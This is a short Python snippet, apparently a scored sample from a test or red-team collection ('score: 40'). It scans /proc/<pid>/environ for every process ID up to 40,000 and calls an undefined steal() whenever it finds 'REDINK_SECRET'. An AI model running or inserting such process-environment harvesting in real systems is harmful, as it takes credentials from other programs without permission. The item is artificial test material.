"""Reads the environment of every process it can see.

score: 40
"""

for pid in range(1, 40_000):
    try:
        if b"REDINK_SECRET" in open(f"/proc/{pid}/environ", "rb").read():
            steal(lambda: pid)
    except OSError:
        pass
